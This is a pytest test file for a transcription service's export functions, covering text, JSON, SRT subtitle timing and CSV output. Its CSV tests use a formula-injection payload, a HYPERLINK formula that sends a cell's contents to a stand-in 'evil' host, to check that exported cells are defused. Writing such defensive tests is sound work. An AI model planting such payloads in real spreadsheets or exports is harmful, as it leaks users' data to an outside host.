"""Exports as pure functions: txt, json, srt (cue timings), csv."""

import csv
import io
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from accounts.services import api_token_create
from tests.transcription.sessions import record_session
from transcription.web import exports
from transcription.web.exports import srt_timestamp

pytestmark = pytest.mark.django_db


@pytest.fixture
def two_sessions(user, api_token):
    token, _ = api_token
    first = record_session(
        user=user,
        token=token,
        finals=[
            ("weather is nice today", 0.31, 1.92),
            ("turn on the lights", 3.5, 5.0),
        ],
        audio_seconds=6,
        days_ago=1,
    )
    second = record_session(
        user=user,
        finals=["=HYPERLINK(1)"],
        close_code=1011,
        error=("engine", "decoder died"),
    )
    return exports.sessions_for_export(session_ids=[first.pk, second.pk])


def test_txt_has_a_header_then_one_final_per_line(two_sessions):
    text = exports.export_txt(two_sessions)
    lines = text.splitlines()
    first = two_sessions[0]
    assert lines[0].startswith(f"# session {first.pk} user alice started ")
    assert lines[0].endswith("en-US completed")
    assert lines[1:3] == ["weather is nice today", "turn on the lights"]
    assert lines[3] == ""
    assert lines[4].endswith("en-US failed")
    assert lines[5] == "=HYPERLINK(1)"


def test_json_has_sessions_and_transcripts_but_no_token_secret(two_sessions, api_token):
    token, raw = api_token
    text = exports.export_json(two_sessions)
    data = json.loads(text)
    assert [d["status"] for d in data] == ["completed", "failed"]
    assert data[0]["token"] == {"name": "tests", "prefix": token.prefix}
    assert data[0]["audio_seconds"] == 6.0
    assert data[0]["transcripts"][0] == {
        "seq": 1,
        "text": "weather is nice today",
        "start": 0.31,
        "end": 1.92,
        "created_at": data[0]["transcripts"][0]["created_at"],
    }
    assert data[1]["close_code"] == 1011
    assert raw not in text
    assert token.digest not in text


def test_srt_cues_come_from_the_stored_times(user):
    session = record_session(
        user=user, finals=[("hello world", 0.31, 1.92), ("again", 61.5, 3723.25)]
    )
    [loaded] = exports.sessions_for_export(session_ids=[session.pk])
    assert exports.export_srt([loaded]) == (
        "1\n00:00:00,310 --> 00:00:01,920\nhello world\n"
        "\n"
        "2\n00:01:01,500 --> 01:02:03,250\nagain\n"
    )


def test_srt_without_stored_times_uses_previous_end_and_a_minimum(user):
    session = record_session(user=user, finals=["one", "two"])
    [loaded] = exports.sessions_for_export(session_ids=[session.pk])
    cues = exports.cue_times(loaded)
    assert cues[0][0] == 0.0
    assert cues[0][1] >= exports.MIN_CUE_SECONDS
    assert cues[1][0] == cues[0][1]
    assert cues[1][1] - cues[1][0] >= exports.MIN_CUE_SECONDS


def test_srt_of_several_sessions_shares_one_clock(two_sessions):
    text = exports.export_srt(two_sessions)
    blocks = text.split("\n\n")
    assert [b.splitlines()[0] for b in blocks] == ["1", "2", "3"]
    # the second session started about a day after the first
    assert blocks[2].splitlines()[1].startswith(("23:59:", "24:00:"))


def test_srt_timestamp():
    assert exports.srt_timestamp(0) == "00:00:00,000"
    assert exports.srt_timestamp(3723.4567) == "01:02:03,457"
    assert exports.srt_timestamp(-1) == "00:00:00,000"


def test_csv_has_one_row_per_session_with_counts(two_sessions, api_token):
    token, raw = api_token
    text = exports.export_csv(two_sessions)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(exports.CSV_COLUMNS)
    assert rows[0]["user"] == "alice"
    assert rows[0]["token_name"] == "tests"
    assert rows[0]["token_prefix"] == token.prefix
    assert (rows[0]["finals"], rows[0]["errors"], rows[0]["status"]) == (
        "2",
        "0",
        "completed",
    )
    assert (rows[1]["finals"], rows[1]["errors"], rows[1]["close_code"]) == (
        "1",
        "1",
        "1011",
    )
    assert "HYPERLINK" not in text  # no transcript text in the sessions CSV
    assert raw not in text


def test_csv_defuses_formulas():
    assert exports._csv_cell("=1+1") == "'=1+1"
    assert exports._csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert exports._csv_cell("\t=1") == "'\t'=1"
    assert exports._csv_cell("alice") == "alice"
    assert exports._csv_cell(None) == ""
    assert exports._csv_cell(-1) == "-1"  # a number, not text


HOSTILE = 'x;=HYPERLINK("http://evil/?"&A2,"x")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (HOSTILE, 'x;\'=HYPERLINK("http://evil/?"&A2,"x")'),
        ("a,+1|-2\t@x", "a,'+1|'-2\t'@x"),
        ("a; =1", "a; '=1"),
        ("a\n=1", "a\n'=1"),
        ("a - b = c", "a - b = c"),  # no separator before them: text as it is
    ],
)
def test_csv_defuses_a_formula_after_any_separator(text, expected):
    assert exports._csv_cell(text) == expected


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_csv_cell_is_a_formula_whatever_the_separator(user, delimiter):
    """Read as a spreadsheet of any locale would, splitting on its own separator
    (quotes ignored, as one that does not expect them would), no cell starts a
    formula."""
    token, _ = api_token_create(user=user, name=HOSTILE)
    record_session(user=user, token=token, finals=["hi"])
    text = exports.export_csv(exports.sessions_for_export())
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        reader = csv.reader(
            io.StringIO(text), delimiter=delimiter, quoting=quoting, escapechar="\\"
        )
        for row in reader:
            for cell in row:
                start = cell.lstrip(' "')[:1]
                assert not start or start not in "=+-@", (delimiter, cell)
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["token_name"] == 'x;\'=HYPERLINK("http://evil/?"&A2,"x")'
    assert text.splitlines()[1].startswith('"')  # every cell quoted


def test_export_dispatches_every_format(two_sessions):
    for fmt in exports.FORMATS:
        assert exports.export(two_sessions, fmt).strip()


def test_json_includes_batches_and_replies_with_the_voice_loop(user, settings):
    from tests.transcription.sessions import record_voice_session

    settings.REPLY_AUDIO_STORE = True
    session, _ = record_voice_session(user=user)
    [data] = json.loads(
        exports.export_json(exports.sessions_for_export(session_ids=[session.pk]))
    )
    assert [(b["finals"], b["status"], b["reply"]) for b in data["batches"]] == [
        ([1], "delivered", "It is sunny."),
        ([2], "failed", ""),
    ]
    assert data["batches"][1]["error"] == "connection refused"
    rows = exports.export_csv(exports.sessions_for_export(session_ids=[session.pk]))
    assert rows.splitlines()[1].endswith(',"2","1","2"')  # finals, errors, batches


_SRT_TIME = re.compile(r"(\d{2,}):([0-5]\d):([0-5]\d),(\d{3})")
_SECONDS = st.floats(min_value=0, max_value=400 * 3600, allow_nan=False)


def _srt_seconds(stamp: str) -> float:
    match = _SRT_TIME.fullmatch(stamp)
    assert match, stamp
    hours, minutes, secs, millis = map(int, match.groups())
    return hours * 3600 + minutes * 60 + secs + millis / 1000


@settings(max_examples=200, deadline=None)
@given(_SECONDS)
def test_srt_timestamp_shape_and_round_trip(seconds):
    stamp = srt_timestamp(seconds)
    if seconds < 99 * 3600:
        assert len(stamp) == len("00:00:00,000")
    assert abs(_srt_seconds(stamp) - seconds) <= 0.0005 + 1e-9


@settings(max_examples=200, deadline=None)
@given(_SECONDS, _SECONDS)
def test_srt_timestamps_keep_the_order(a, b):
    early, late = sorted((a, b))
    assert _srt_seconds(srt_timestamp(early)) <= _srt_seconds(srt_timestamp(late))


@settings(max_examples=50, deadline=None)
@given(st.floats(max_value=0, allow_nan=False, allow_infinity=False))
def test_srt_timestamp_before_the_start_is_zero(seconds):
    assert srt_timestamp(seconds) == "00:00:00,000"
